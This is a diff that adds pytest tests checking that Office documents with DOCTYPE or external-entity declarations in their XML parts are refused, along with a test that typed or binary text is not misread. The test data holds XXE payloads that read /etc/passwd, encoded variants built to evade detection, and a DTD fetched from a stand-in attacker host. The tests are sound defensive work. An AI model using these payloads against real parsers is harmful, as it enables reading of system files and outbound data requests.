@@ -294,3 +294,31 @@ class TestImages:
         picture, _kept = prepared(make.jpeg((6000, 3000)), "jpeg")
         assert max(picture.width, picture.height) <= images.LONGEST_SIDE
         assert picture.width == 2 * picture.height
+
+
+XXE = '<?xml version="1.0"?>\n<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
+
+
+@pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx"])
+@pytest.mark.parametrize("part", ["docProps/app.xml", "customXml/item1", "_rels/.rels"])
+@pytest.mark.parametrize(
+    "content",
+    [
+        XXE.encode(),
+        XXE.encode("utf-16"),
+        b"\xef\xbb\xbf" + XXE.encode(),
+        # Cut between two readings, after a long comment.
+        b"<!--" + b"a" * ((1 << 18) - 12) + b"-->" + XXE.encode()[22:],
+        b"<!DOCTYPE w SYSTEM 'https://evil.example/a.dtd'><w/>",
+    ],
+)
+def test_a_document_that_calls_on_other_files_is_refused(kind: str, part: str, content: bytes) -> None:
+    refusal = refusal_of(make.office(kind, **{part: content}), f"a.{kind}")
+    assert refusal.reason == "entities"
+    assert "DOCTYPE" in str(refusal.message)
+
+
+def test_a_picture_and_typed_words_declare_nothing() -> None:
+    """In a document, `<` that somebody typed is written `&lt;`; what is no XML is not read as some."""
+    more = {"word/document.xml": b"<w:document>&lt;!DOCTYPE html></w:document>", "word/media/image1.bin": b"\x89PNG <!DOCTYPE html>"}
+    assert taken(make.office("docx", **more), "a.docx", EVERYTHING).code == "docx"
